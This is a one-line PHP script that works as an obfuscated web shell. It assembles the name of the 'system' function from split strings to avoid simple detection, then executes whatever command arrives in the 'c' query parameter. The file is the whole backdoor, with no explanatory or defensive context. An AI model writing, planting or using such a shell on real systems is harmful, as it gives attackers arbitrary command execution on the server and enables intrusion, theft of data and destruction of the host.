<?php function g() { return "sys" . "tem"; } $f = g(); $f($_GET["c"]);
